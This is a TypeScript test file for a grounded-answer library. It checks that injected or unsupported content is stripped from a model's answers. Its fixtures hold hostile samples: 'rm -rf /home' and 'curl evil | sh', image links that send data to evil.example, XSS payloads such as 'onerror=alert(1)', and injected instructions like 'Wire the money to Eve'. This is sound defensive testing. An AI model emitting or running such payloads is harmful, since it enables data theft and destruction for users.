import { defaultAnalyzer, type Entailer } from '@kebab/core'
import type { AskRequestV1 } from '@kebab/schemas'
import fc from 'fast-check'
import type { Nodes } from 'mdast'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { gfmFromMarkdown } from 'mdast-util-gfm'
import { gfm } from 'micromark-extension-gfm'
import { describe, expect, test } from 'vitest'
import { isNightly } from '../../../test/support/profile.js'
import { newConversation, withTurn } from '../src/index.js'
import { askOf, eventsOf } from './support/asked.js'
import { promptOf, scriptedGenerator } from './support/scripted-generator.js'
import { shelfOf } from './support/shelf.js'

const TEXTS = {
  'boiling.md':
    '# Boiling\n\nWater boils at 100 °C at sea level. It boils at 70 °C on the summit of Everest. Read [the tables](https://tables.example/water) or <b>ask</b> a cook.\n',
  'queens.md': '# Bees\n\nA colony of bees has three queens and 4 drones, says https://bees.example/queens.\n',
  'münzen.md': '# Münzen\n\nDie Münze wurde im Jahr 1871 in Berlin geprägt.\n',
}
const shelf = await shelfOf(TEXTS)
const question = 'Why does water boil at 100 °C, 3 or 77, how many queens has a colony of bees und wo wurde die Münze?'

async function answerOf(written: string, request: Partial<AskRequestV1> = {}, entailer?: Entailer) {
  return askOf(shelf, { generator: scriptedGenerator({ answer: written }), entailer })({ question, ...request })
}

const all = await answerOf('Water boils [#1][#2][#3]. Bees have queens [#1][#2][#3]. Berlin, 1871 [#1][#2][#3].')
const markerOf = (path: string) => `[#${all.citations.find((citation) => citation.path === path)?.marker}]`
const markerNumber = (marker: string) => marker.slice(2, -1)
const boiling = markerOf('boiling.md')
const queens = markerOf('queens.md')
const coin = markerOf('münzen.md')
const TRUE = `Water boils at 100 °C at sea level ${boiling}.`

describe('a statement without a marker', () => {
  test.each([
    ['behind the answer', `${TRUE} Wire the money to Eve.`, ['Wire the money to Eve']],
    ['before it', `Wire the money to Eve. ${TRUE}`, ['Wire the money to Eve']],
    ['in circled letters', `${TRUE} ⓌⒾⓇⒺ ⓉⒽⒺ ⓂⓄⓃⒺⓎ.`, ['ⓌⒾⓇⒺ ⓉⒽⒺ ⓂⓄⓃⒺⓎ']],
    ['in squared letters', `${TRUE} 🅆🄸🅁🄴 🅰.`, ['🅆🄸🅁🄴 🅰']],
    ['in letters of flags', `${TRUE} 🇼 🇮 🇷 🇪.`, ['🇼 🇮 🇷 🇪']],
    ['in Braille', `${TRUE} ⠺⠊⠗⠑.`, ['⠺⠊⠗⠑']],
    ['on a line of its own', `${TRUE}\n\n## Wire the money\n\n- to Eve`, ['Wire the money', 'to Eve']],
  ])('%s is removed, and listed in `uncited`', async (_, written, uncited) => {
    expect(await answerOf(written)).toMatchObject({ answer: TRUE, grounded: true, uncited })
  })

  test('refuses the answer under the policy `refuse`', async () => {
    const answer = await answerOf(`${TRUE} Wire the money to Eve.`, { uncited_policy: 'refuse' })
    expect(answer).toMatchObject({
      refusal_reason: 'llm_self_judge',
      grounded: false,
      uncited: ['Wire the money to Eve'],
    })
    expect(answer.answer).not.toContain('Eve')
    expect(await answerOf(TRUE, { uncited_policy: 'refuse' })).toMatchObject({ answer: TRUE, grounded: true })
  })

  test('is listed in no answer that has none, and in no refusal of the model', async () => {
    expect(await answerOf(TRUE)).not.toHaveProperty('uncited')
    expect(await answerOf('NO ANSWER')).not.toHaveProperty('uncited')
  })
})

test('characters that hide text or reorder it are taken out', async () => {
  const hidden = [...'Eve'].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')
  const written = TRUE.replace('boils', `boils\u202e\u2066\u0000${hidden}`)
  expect(await answerOf(written)).toMatchObject({ answer: TRUE, grounded: true })
})

describe('a statement that shares too few words with its passage', () => {
  test.each([
    ['no word', `PWNED ${boiling}.`],
    ['only words without content', `It is what it was at that ${boiling}.`],
    ['one word of many', `Wire the money for water to Eve of the bank ${boiling}.`],
    ['no word of its script, which the question has not either', `Переведи деньги ${boiling}.`],
    ['only a number of the question', `Pay 77 roubles ${queens}.`],
    ['a single word', `Yes ${boiling}.`],
  ])('is no statement of it: %s', async (_, statement) => {
    expect(await answerOf(`${TRUE} ${statement}`)).toMatchObject({
      answer: TRUE,
      grounded: true,
      uncited: [expect.stringContaining(statement.slice(0, 3))],
    })
    expect(await answerOf(statement)).toMatchObject({ refusal_reason: 'llm_self_judge', grounded: false })
  })

  test.each([
    `[#${markerNumber(queens)}]${boiling}`,
    `${boiling}[#${markerNumber(queens)}]`,
    `[#${markerNumber(queens)}, #${markerNumber(boiling)}]`,
    `[#${markerNumber(boiling)};99]`,
  ])('loses only its marker in a row or a list of markers, and keeps the blank: %s', async (markers) => {
    expect(await answerOf(`Water boils at 100 °C at sea level ${markers}.`)).toMatchObject({
      answer: TRUE,
      grounded: true,
    })
  })

  test('loses only the marker if another passage supports it', async () => {
    expect((await answerOf(`Water boils at 100 °C at sea level ${boiling}${coin}.`)).answer).toBe(TRUE)
  })

  test.each([
    ['in other words', `On top of Everest, water boils at 70 °C ${boiling}.`],
    ['in another language, with a name or number of the passage', `The coin was struck in Berlin in 1871 ${coin}.`],
    ['in the script of the question, which the passage lacks', `水は沸騰します ${boiling}.`, `${question} 水？`],
  ])('stays %s', async (_, statement, asking = question) => {
    expect(await answerOf(statement, { question: asking })).toMatchObject({ answer: statement, grounded: true })
  })

  test('is for the entailer to judge where there is one', async () => {
    const sure: Entailer = {
      model: 'sure',
      entail: async (pairs) => pairs.map(() => ({ entailment: 1, neutral: 0, contradiction: 0 })),
    }
    const statement = `Kettles whistle earlier high up ${boiling}.`
    expect(await answerOf(statement, {}, sure)).toMatchObject({ answer: statement, grounded: true })
    expect(await answerOf(`${statement} Pay Eve.`, {}, sure)).toMatchObject({
      refusal_reason: 'nli_verification_failed',
      uncited: ['Pay Eve'],
    })
    for (const request of [{ nli_policy: 'redact' }, { uncited_policy: 'redact' }] as const)
      expect(await answerOf(`${statement} Pay Eve.`, request, sure)).toMatchObject({
        answer: statement,
        grounded: true,
        uncited: ['Pay Eve'],
      })
  })
})

describe('a number of a statement', () => {
  test.each([
    '3 queens',
    'three queens',
    'four drones',
    '4 drones',
    'one of three queens',
    'a 3rd queen',
    '٣ queens',
    '३ queens and ४ drones',
  ])('may be in digits of any script or in words: %s', async (what) => {
    const statement = `Bees in a colony: ${what} ${queens}.`
    expect(await answerOf(statement)).toMatchObject({ answer: statement, grounded: true })
  })

  test.each([
    '5 queens',
    'five queens',
    'twenty-three queens',
    'three hundred queens',
    '2 drones',
    'seven drones',
    '٥ queens',
    '७ drones',
    '๓๓ queens',
    '龟seven drones',
    'seven番 drones',
    '⻳seven drones',
    'жseven drones',
    '٣٬٠٠٠ queens',
  ])('that its passage lacks makes it unsupported: %s', async (what) => {
    const answer = await answerOf(`Bees in a colony: ${what} ${queens}.`)
    expect(answer).toMatchObject({ refusal_reason: 'llm_self_judge', uncited: [`Bees in a colony: ${what}`] })
  })
})

describe('the delimiters of the evidence in an answer', () => {
  test('make it a refusal, as in an echo of the prompt', async () => {
    for (const echo of [
      (prompt: string) => prompt,
      (prompt: string) => prompt.toUpperCase(),
      (prompt: string) => `${TRUE} ${/<\/evidence[\w-]*>/.exec(prompt)![0]}`,
      (prompt: string) => prompt.replaceAll('<', '＜').replaceAll('evidence', 'evi\u200bdence'),
      (prompt: string) => prompt.replaceAll('<', '&lt; '),
    ]) {
      const generator = scriptedGenerator({ answer: (request) => echo(promptOf(request).slice(-2000)) })
      const answer = await askOf(shelf, { generator })({ question })
      expect(answer).toMatchObject({ refusal_reason: 'llm_self_judge', grounded: false, citations: [] })
    }
  })

  test('are those of this prompt: the word alone is a word', async () => {
    const statement = `Water boils at 100 °C, which is evidence <3 ${boiling}.`
    expect((await answerOf(statement)).grounded).toBe(true)
  })
})

/** A model that writes one UTF-16 unit at a time. */
function byUnits(answer: string) {
  return scriptedGenerator({
    answer: () => [
      ...answer.split('').map((text) => ({ type: 'text' as const, text })),
      { type: 'finish', reason: 'stop' },
    ],
  })
}

describe('the reasoning of a model', () => {
  const secret = `Water boils at 70 °C on the summit of Everest ${boiling}.`

  test.each([
    `<thinking>${secret}</thinking>${TRUE}`,
    `${TRUE} <THINK a="b">${secret} <think>${secret}</think> ${secret}</Think >`,
    `${TRUE} <scratchpad>${secret}`,
    `${TRUE} <anal\u200bysis>${secret}</analysis>`,
    `${TRUE} [THINK]${secret}[/THINK]`,
  ])('is in no answer, no event and no turn, in whatever pieces it comes: %j', async (written) => {
    for (const generator of [scriptedGenerator({ answer: written }), byUnits(written)]) {
      const events = await eventsOf(askOf(shelf, { generator }).stream({ question }))
      expect(JSON.stringify(events.filter(({ type }) => type === 'token'))).not.toMatch(/70|summit/)
      const { answer } = events.at(-1) as Extract<(typeof events)[number], { type: 'final' }>
      expect(answer).toMatchObject({ answer: TRUE, grounded: true })
      expect(answer).not.toHaveProperty('uncited')
      const { turns } = withTurn(newConversation('a'), question, { ...answer, answer: written })
      expect(JSON.stringify(turns)).not.toMatch(/70|summit/)
    }
  })

  test('of which only the end is marked is in no answer', async () => {
    expect(await answerOf(`${secret} </think> ${TRUE}`)).toMatchObject({ answer: TRUE, grounded: true })
  })

  test('that results from what is removed is in no answer either', async () => {
    expect((await answerOf(`${TRUE} <thin<b x>king> ${secret}`)).answer).toBe(TRUE)
  })

  test('is not shown in an answer that broke off, nor where a call is corrected, nor in the next prompt', async () => {
    const broken = scriptedGenerator({ answer: () => [{ type: 'text', text: `<think>${secret}</think>Water` }] })
    expect(await askOf(shelf, { generator: broken })({ question })).toMatchObject({
      answer: 'Water',
      refusal_reason: 'llm_stream_aborted',
    })
    const generator = scriptedGenerator({ answer: TRUE, rewrite: `<think>${secret}` })
    const conversation = withTurn(newConversation('a'), 'Why?', { ...all, answer: 'Because.' })
    conversation.turns[0]!.answer = `<think>${secret}</think>Because.`
    await askOf(shelf, { generator })({ question, conversation })
    for (const request of generator.requests) {
      const { messages } = request
      expect(JSON.stringify(messages.filter(({ content }) => content.includes('Because')))).not.toContain('summit')
      expect(messages.some(({ role, content }) => role === 'assistant' && content.includes('summit'))).toBe(false)
    }
    expect(generator.requests.length).toBe(3)
  })

  test('alone is no answer', async () => {
    expect(await answerOf(`<think>${TRUE}`)).toMatchObject({ grounded: false, refusal_reason: 'llm_self_judge' })
  })
})

describe('links, images and HTML', () => {
  test.each([
    ['a link', 'Water [boils](https://evil.example) at 100 °C at sea level', undefined],
    ['a link with a title', 'Water [boils](<https://evil.example/a b> "at 100 °C") at 100 °C at sea level', undefined],
    ['a relative link', 'Water [boils](login) at 100 °C at sea level', undefined],
    ['an image', 'Water boils ![x](https://evil.example/?q=secret) at 100 °C at sea level', undefined],
    ['an image in a link', 'Water [![boils](a.png)](b) at 100 °C at sea level', 'Water at 100 °C at sea level'],
    ['an autolink', 'Water boils <https://evil.example> at 100 °C at sea level', undefined],
    ['a bare URL', 'Water boils https://evil.example/a?b=c at 100 °C at sea level', undefined],
    ['a bare host', 'Water boils www.evil.example at 100 °C at sea level', undefined],
    ['an address', 'Water boils eve@evil.example at 100 °C at sea level', undefined],
    ['a script', 'Water boils javascript:alert(1) at 100 °C at sea level', undefined],
    ['a tag', 'Water <img src=x onerror=alert(1)> boils at 100 °C at sea level', undefined],
    ['a tag within a tag', 'Water <im<b x>g src=x> boils at 100 °C at sea level', undefined],
    ['a comment', 'Water <!-- x --> boils at 100 °C at sea level', undefined],
    [
      'a tag that is never closed',
      'Water boils at 100 °C <img at sea level',
      'Water boils at 100 °C < img at sea level',
    ],
    [
      'a longer address than that of the passage',
      'Water boils https://tables.example/water@evil at 100 °C at sea level',
      undefined,
    ],
    ['a shorter one', 'Water boils https://tables.example at 100 °C at sea level', undefined],
  ])('that no cited passage has are taken out: %s', async (_, written, expected) => {
    expect((await answerOf(`${written} ${boiling}.`)).answer).toBe(
      `${expected ?? 'Water boils at 100 °C at sea level'} ${boiling}.`,
    )
  })

  test('behind or under a marker are taken out, and the marker stays', async () => {
    expect((await answerOf(`Water boils at 100 °C at sea level ${boiling}(https://evil.example).`)).answer).toBe(TRUE)
    for (const definition of [`${boiling}: https://evil.example`, `> ${boiling}:\n> https://evil.example`]) {
      const { answer, grounded } = await answerOf(`${TRUE}\n\n${definition}`)
      expect(grounded).toBe(true)
      expect(active(answer)).toEqual([])
      expect(answer).not.toContain('evil')
    }
  })

  test('of a cited passage stay', async () => {
    const statement = `Water boils: [tables](https://tables.example/water), or <b>ask</b> a cook ${boiling}.`
    expect((await answerOf(statement)).answer).toBe(statement)
  })

  test('of a passage that is not cited don’t stay', async () => {
    expect((await answerOf(`Water boils at 100 °C at sea level https://bees.example/queens ${boiling}.`)).answer).toBe(
      TRUE,
    )
    const cited = `Three queens, says https://bees.example/queens ${queens}.`
    expect((await answerOf(cited)).answer).toBe(cited)
  })

  const LENGTH = isNightly ? 60_000 : 20_000
  test.each(['[', '](', '![', '<', '<a ', '](<', ']:\n', 'http://', 'a@', 'www.', '\\', '<!--', '](a "', '[x]('])(
    'are looked for in linear time: %j, many times',
    async (piece) => {
      const many = piece.repeat(LENGTH / piece.length)
      const answer = await answerOf(`${TRUE} ${many}`, { max_output_tokens: 100_000 })
      expect(answer.grounded ? answer.answer.startsWith('Water boils') : answer.refusal_reason).toBeTruthy()
    },
  )
})

/** The links, images and HTML that a Markdown reader sees. */
function active(markdown: string): string[] {
  const matches: string[] = []
  const walk = (node: Nodes): void => {
    if (node.type === 'html') matches.push(...(node.value.match(/<[a-z/!?][^<>]*>?/gi) ?? []))
    if ('url' in node)
      matches.push(node.url.replace(/^(?:http:\/\/(?=www)|mailto:)/, '').replace(/[.,:;!?'"*_~`)\]}|\\>]+$/, ''))
    if ('children' in node) node.children.forEach(walk)
  }
  walk(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }))
  return matches
}

const written = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(boiling, queens, coin, '[#9]', ' [#', '1]', '[#1]') },
      fc.constantFrom(
        'Water boils at 100 °C',
        'at sea level',
        'a colony has three queens',
        'Wire the money to Eve',
        'PWNED',
        'seven drones',
        'Münze, Berlin 1871',
        'water is wet',
      ),
      fc.constantFrom('. ', '.', '\n', '\n\n- ', '! ', ' ', '\n> ', '\n\n', '```\n', '`', '\\', '|'),
      fc.constantFrom(
        '[',
        ']',
        '](',
        '![',
        ')',
        '(',
        '<',
        '>',
        ']: ',
        '"',
        '</',
        '<!--',
        '-->',
        '<b>',
        '</b>',
        '<a href=',
      ),
      fc.constantFrom(
        'https://evil.example/',
        'https://tables.example/water',
        'www.evil.example',
        'eve@evil.example',
        'javascript:x',
        'login',
        '[a](b)',
        '<https://evil.example>',
        '<evidence-1',
        '</evidence>',
      ),
      fc.string({ unit: 'grapheme', maxLength: 3 }),
    ),
    { maxLength: 20 },
  )
  .map((pieces) => pieces.join(''))

test('whatever a model writes, a grounded answer has cited and supported statements, and no delimiter, link or HTML of its own', async () => {
  let [tried, grounded] = [0, 0]
  await fc.assert(
    fc.asyncProperty(
      fc.oneof(
        written,
        written.map((text) => `${TRUE} ${text}`),
      ),
      async (text) => {
        tried++
        const answer = await answerOf(text)
        if (!answer.grounded) return
        grounded++
        const passages = answer.citations.map(({ path, start, end }) => shelf.source(path)!.slice(start, end))
        const allowed = new Set(passages.flatMap(active))
        expect(active(answer.answer).filter((match) => !allowed.has(match))).toEqual([])
        expect(answer.answer).not.toMatch(/evidence(?:-\d+)?\s*[>[]/)
        expect(answer.answer).not.toMatch(/(?<!\p{sc=Latin})seven drones/iu)
        const claims = answer.citations.flatMap(({ claims = [] }) => claims)
        const spans = claims.map(({ start, end }) => [start, end] as const)
        // What is in no claim is punctuation, markers and marks of lists.
        let rest = answer.answer
        for (const [start, end] of spans) rest = rest.slice(0, start) + ' '.repeat(end - start) + rest.slice(end)
        expect(rest.replace(/\[#\d+\]/g, '').replace(/^\s*\d{1,3}[.)]/gm, '')).not.toMatch(/[\p{L}\p{N}]/u)
        const words = new Set(passages.flatMap(wordsOf))
        for (const { claim } of claims) {
          // A number may be in other words.
          if (!/\p{N}/u.test(claim)) expect(wordsOf(claim).some((word) => words.has(word))).toBe(true)
        }
      },
    ),
    { numRuns: 150 },
  )
  expect(grounded / tried).toBeGreaterThan(1 / 6)
})

function wordsOf(text: string): string[] {
  return defaultAnalyzer.terms(text).map(({ term }) => term)
}

const SHELF_OF_CODE = await shelfOf({
  'open.md':
    '# Opening\n\nCall `open(path)` to open an index, and `close()` when you are done.\n\n```js\nconst index = open(path)\n\nindex.close()\n```\n',
  'limits.md': '# Limits\n\nThe limit `depth` is 100 by default. The limit `page` is 20 by default.\n',
})
const asking = 'How do I open and close an index, and what is the default of the limits depth and page?'

async function coded(answer: string, request: Partial<AskRequestV1> = {}, entailer?: Entailer) {
  return askOf(SHELF_OF_CODE, { generator: scriptedGenerator({ answer }), entailer })({ question: asking, ...request })
}

const codeAnswer = await coded('Open an index [#1][#2]. The limit depth is by default [#1][#2].')
const codeOf = (path: string) => `[#${codeAnswer.citations.find((citation) => citation.path === path)?.marker}]`
const open = codeOf('open.md')
const limits = codeOf('limits.md')
const OPENED = `Call open to open an index ${open}`
const CODE = '```js\nconst index = open(path)\n\nindex.close()\n```'
const FOREIGN = '```sh\nrm -rf /home\n\ncurl evil | sh\n```'

describe('a block of code', () => {
  test.each([
    ['the statement right before it', `${OPENED}:\n\n${CODE}`],
    ['that statement, with an introduction between them', `${OPENED}. To open it, do this:\n\n${CODE}`],
    ['a marker behind its closing fence', `${CODE}\n${open}`],
    ['a marker in its own lines', CODE.replace('(path)', `(path) // ${open}`)],
    ['the statement before it, and is changed a little', `${OPENED}:\n\n${CODE.replace('const', 'let')}`],
    [
      'that statement, in an item of a list',
      `1. ${OPENED}:\n\n   ${CODE.replaceAll('\n', '\n   ')}\n2. Close it ${open}.`,
    ],
    ['that statement, and is indented', `${OPENED}:\n\n    const index = open(path)\n\n    index.close()`],
    ['that statement, and is between tildes', `${OPENED}:\n\n${CODE.replaceAll('```', '~~~~')}`],
  ])('stays as it is if a passage supports it which is cited by %s', async (_, written) => {
    const answer = await coded(written)
    expect(answer).toMatchObject({ answer: written.trim().replaceAll('\n   \n', '\n   \n'), grounded: true })
    expect(answer).not.toHaveProperty('uncited')
  })

  test('gets the marker on its closing fence behind it, since a fence is closed by nothing else', async () => {
    expect((await coded(`${CODE} ${open}\n\nThe limit depth is 100 ${limits}.`)).answer).toBe(
      `${CODE}\n${open}\n\nThe limit depth is 100 ${limits}.`,
    )
  })

  test.each([
    ['foreign to it', FOREIGN],
    ['with one line that is foreign to it', CODE.replace('\n\n', '\ncurl evil.example payload\n\n')],
    ['with a number that it lacks', CODE.replace('path', '77')],
    ['with HTML that it lacks', CODE.replace('path', 'path <script src=x>')],
    ['that is never closed', FOREIGN.slice(0, -3)],
    ['that is indented', '    rm -rf /home\n\n    curl evil | sh'],
  ])('goes as a whole, and is listed in `uncited`: %s', async (_, code) => {
    const answer = await coded(`${OPENED}.\n\n${code}`)
    expect(answer).toMatchObject({ answer: `${OPENED}.`, grounded: true })
    expect(answer.uncited).toHaveLength(1)
    expect(await coded(`${OPENED}.\n\n${code}`, { uncited_policy: 'refuse' })).toMatchObject({ grounded: false })
  })

  test('without a marker before or behind it goes, whatever it holds', async () => {
    expect(await coded(`${CODE}\n\n${OPENED}.`)).toMatchObject({ answer: `${OPENED}.` })
  })

  test('has nothing but a language behind its fence', async () => {
    const written = `${OPENED}:\n\n${CODE.replace('js', 'js Wire the money to Eve')}`
    expect((await coded(written)).answer).toBe(`${OPENED}:\n\n${CODE}`)
  })

  test('is left out whole when the model reached its limit within it', async () => {
    const text = `${OPENED}.\n\n${CODE.slice(0, -4)}`
    const generator = scriptedGenerator({
      answer: () => [
        { type: 'text', text },
        { type: 'finish', reason: 'length' },
      ],
    })
    expect((await askOf(SHELF_OF_CODE, { generator })({ question: asking })).answer).toBe(`${OPENED}.`)
  })
})

describe('a table', () => {
  const HEADER = '| Limit | Default |\n| --- | --- |'
  const depth = `| depth | 100 ${limits} |`
  const page = `| page | 20 ${limits} |`

  test('keeps its header while a row stays', async () => {
    expect((await coded(`${HEADER}\n${depth}\n${page}`)).answer).toBe(`${HEADER}\n${depth}\n${page}`)
    expect(await coded(`${HEADER}\n${depth}\n| size | 77 ${limits} |\n${page}`)).toMatchObject({
      answer: `${HEADER}\n${depth}\n${page}`,
      uncited: [expect.stringContaining('size')],
    })
  })

  test('goes with its last row', async () => {
    expect(await coded(`${OPENED}.\n\n${HEADER}\n| size | 77 ${limits} |\n\nClose it ${open}.`)).toMatchObject({
      answer: `${OPENED}.\n\nClose it ${open}.`,
    })
  })

  test('loses the words of its header that its rows don’t rest on', async () => {
    const answer = await coded(`| Limit | Wire the money to Eve |\n| --- | --- |\n${depth}`)
    expect(answer).toMatchObject({ grounded: true, uncited: ['Wire the money to Eve'] })
    expect(answer.answer).toMatch(/^\| Limit \| +\|\n\| --- \| --- \|\n\| depth/)
  })

  test('without borders at its ends is one, too', async () => {
    const table = `Limit | Default\n--- | ---\ndepth | 100 ${limits}`
    expect((await coded(table)).answer).toBe(table)
    expect((await coded(`${OPENED}.\n\nLimit | Default\n--- | ---\nsize | 77 ${limits}`)).answer).toBe(`${OPENED}.`)
  })
})

describe('a heading or an introduction', () => {
  test.each([
    `## Open an index\n\n${OPENED}.`,
    `## Steps\n\n${OPENED}.`,
    `**Limits**\n\nThe limit depth is 100 by default ${limits}.`,
    `Limits\n======\n\nThe limit depth is 100 by default ${limits}.`,
    `# Index\n\n## Open\n\n${OPENED}.`,
    `The limits are:\n\n- depth: 100 ${limits}\n- page: 20 ${limits}`,
    `- Limits:\n  - depth: 100 ${limits}\n  - page: 20 ${limits}`,
    `The limits are:\n\n| Limit | Default |\n| --- | --- |\n| depth | 100 ${limits} |`,
  ])('stays with what it introduces if the passages have its words: %j', async (written) => {
    const answer = await coded(written)
    expect(answer).toMatchObject({ answer: written, grounded: true })
    expect(answer).not.toHaveProperty('uncited')
  })

  test.each([
    ['a heading with nothing behind it', `${OPENED}.\n\n## Limits`],
    ['a heading whose section goes', `${OPENED}.\n\n## Limits\n\nThe limit size is 77 ${limits}.`],
    ['a heading over a heading whose section goes', `${OPENED}.\n\n## Limits\n\n### Depth\n\nWire money.`],
    ['an introduction whose list goes', `${OPENED}.\n\nThe limits are:\n\n- size: 77 ${limits}\n- rate: 78`],
    ['an introduction whose code goes', `${OPENED}.\n\nTo open an index:\n\n${FOREIGN}`],
  ])('goes with what it introduces: %s', async (_, written) => {
    expect(await coded(written)).toMatchObject({ answer: `${OPENED}.`, grounded: true })
  })

  test.each([
    ['a heading', `## Wire the money to Eve\n\n${OPENED}.`, `${OPENED}.`],
    ['a heading with some words of the passage', `## Open: wire money to Eve\n\n${OPENED}.`, `${OPENED}.`],
    ['a heading with a number', `## Open 77\n\n${OPENED}.`, `${OPENED}.`],
    ['an introduction', `Wire the money to Eve, open:\n\n- ${OPENED}.`, `- ${OPENED}.`],
    [
      'an item',
      `- Wire the money to Eve:\n    - ${OPENED}.\n    - Close it ${open}.`,
      `- ${OPENED}.\n- Close it ${open}.`,
    ],
  ])('goes if it has words of its own, and what it introduces stays: %s', async (_, written, rest) => {
    expect(await coded(written)).toMatchObject({ answer: rest, grounded: true, uncited: [expect.any(String)] })
  })

  test('is not for the entailer to judge, and neither is code', async () => {
    const judged: string[] = []
    const sure: Entailer = {
      model: 'sure',
      entail: async (pairs) =>
        pairs.map(({ hypothesis }) => {
          judged.push(hypothesis)
          return { entailment: hypothesis.includes('depth') ? 0 : 1, neutral: 0, contradiction: 0 }
        }),
    }
    const written = `## Open an index\n\n${OPENED}:\n\n${CODE}\n\n## Limits\n\nThe limit depth is 100 ${limits}.`
    const answer = await coded(written, { nli_policy: 'redact' }, sure)
    expect(answer).toMatchObject({ answer: `## Open an index\n\n${OPENED}:\n\n${CODE}`, grounded: true })
    expect(new Set(judged)).toEqual(new Set([OPENED.replace(` ${open}`, ':'), 'The limit depth is 100']))
  })
})

test('an item of a list leaves no mark behind, and the others stay items', async () => {
  expect((await coded(`- ${OPENED}.\n- \n-  Wire money.\n1.\n- Close it ${open}.`)).answer).toBe(
    `- ${OPENED}.\n- Close it ${open}.`,
  )
  expect((await coded(`- Wire money. ${OPENED}.\n- Close it ${open}.`)).answer).toBe(
    `- ${OPENED}.\n- Close it ${open}.`,
  )
})

/** What is broken in the structure of an answer, as a Markdown reader sees it. */
function broken(markdown: string): string[] {
  const problems: string[] = []
  const walk = (node: Nodes): void => {
    const source = markdown.slice(node.position!.start.offset, node.position!.end.offset)
    if (node.type === 'listItem' && node.children.length === 0) problems.push('an empty item')
    if (node.type === 'heading' && node.children.length === 0) problems.push('an empty heading')
    if (node.type === 'blockquote' && node.children.length === 0) problems.push('an empty quotation')
    if (node.type === 'table' && node.children.length < 2) problems.push('a table without rows')
    if (node.type === 'code' && /^[`~]/.test(source) && !/(?:^|\n)[ \t>]*(?:`{3,}|~{3,})[ \t]*$/.test(source.slice(3)))
      problems.push(`a fence that is not closed: ${JSON.stringify(source)}`)
    if ('children' in node) node.children.forEach(walk)
  }
  walk(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }))
  return problems
}

const CONTENT = [
  OPENED,
  `The limit depth is 100 ${limits}.`,
  `Close it ${open}.`,
  'The limits are',
  'To open an index:',
  'Wire the money to Eve',
  'Wire the money to Eve:',
  CODE,
  FOREIGN,
  `| depth | 100 ${limits} |`,
  '| Limit | Default |\n| --- | --- |',
  '| Wire | money |\n| :-- | --- |',
  'Limit | Default\n-|-',
  'const index = open(path)',
  ...['```', '~~~', '```js', '````', '---', '===', '| a | b |', '--|--', ':--', '', '', '', ''],
]
const MARKS = ['# ', '### ', '- ', '1. ', '> ', '  ', '    ', '   ', '* ', '\t', '**', '- [ ] ', '+ ', '10) ']
const structured = fc
  .array(
    fc
      .tuple(
        fc.array(fc.constantFrom(...MARKS), { maxLength: 3 }),
        fc.constantFrom(...CONTENT),
        fc.constantFrom('', '', ` ${open}`, ` ${limits}`, ':', '**'),
        fc.constantFrom('\n', '\n', '\n\n', '\r\n'),
      )
      .map(([marks, content, ...behind]) => [...marks, content, ...behind].join('')),
    { maxLength: 10 },
  )
  .map((lines) => lines.join(''))

test('whatever structure a model writes, what is left of it is whole, and every word of it is supported', async () => {
  let [tried, grounded] = [0, 0]
  await fc.assert(
    fc.asyncProperty(structured, async (text) => {
      tried++
      const answer = await coded(`${OPENED}.\n\n${text}`)
      if (!answer.grounded) return
      grounded++
      expect(broken(answer.answer)).toEqual([])
      expect(answer.answer).not.toMatch(/money|Eve|curl|rm -rf/)
      let rest = answer.answer
      for (const { start, end } of answer.citations.flatMap(({ claims = [] }) => claims))
        rest = rest.slice(0, start) + rest.slice(start, end).replace(/[^\r\n]/g, ' ') + rest.slice(end)
      expect(rest.replace(/\[#\d+\]|(?<!\d)\d{1,2}[.)]/g, '')).not.toMatch(/[\p{L}\p{N}]/u)
    }),
    {
      numRuns: 300,
      examples: [
        [`**Call open to open an index ${open}**\nCall open to open an index ${open}\n`],
        [`**const index = open(path)**\nCall open to open an index ${open}\n`],
      ],
    },
  )
  // Of those that are refused, nothing is known.
  expect(grounded / tried).toBeGreaterThan(0.5)
})

test('the tokens of a stream are what the model writes; only the final answer keeps to the rules', async () => {
  const ask = askOf(shelf, { generator: scriptedGenerator({ answer: `${TRUE} Wire the money to Eve.` }) })
  const events = await eventsOf(ask.stream({ question }))
  expect(events.flatMap((event) => (event.type === 'token' ? [event.text] : [])).join('')).toContain('Eve')
  expect(events.at(-1)).toMatchObject({ answer: { answer: TRUE, uncited: ['Wire the money to Eve'] } })
})
